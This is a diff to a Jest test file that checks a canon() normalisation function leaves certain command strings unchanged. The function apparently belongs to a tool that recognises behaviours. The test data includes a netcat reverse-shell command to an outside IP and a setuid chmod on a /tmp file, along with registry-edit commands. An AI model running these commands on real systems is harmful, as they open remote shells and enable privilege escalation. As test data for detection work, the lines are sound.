@@ -55,9 +55,12 @@ test.each([
   expect(canon(text)).toBe(canonical);
 });
 
-test.each(["nc -e /bin/sh 203.0.113.9 4444", "chmod 4755 /tmp/x", "python3.9 -c 1"])(
-  "a canonical text keeps what behaviours are known by: %s",
-  (text) => {
-    expect(canon(text)).toBe(text);
-  },
-);
+test.each([
+  "nc -e /bin/sh 203.0.113.9 4444",
+  "chmod 4755 /tmp/x",
+  "python3.9 -c 1",
+  "reg add x /v y /d 0x00000001",
+  "reg add x /v y /d 00000000",
+])("a canonical text keeps what behaviours are known by: %s", (text) => {
+  expect(canon(text)).toBe(text);
+});
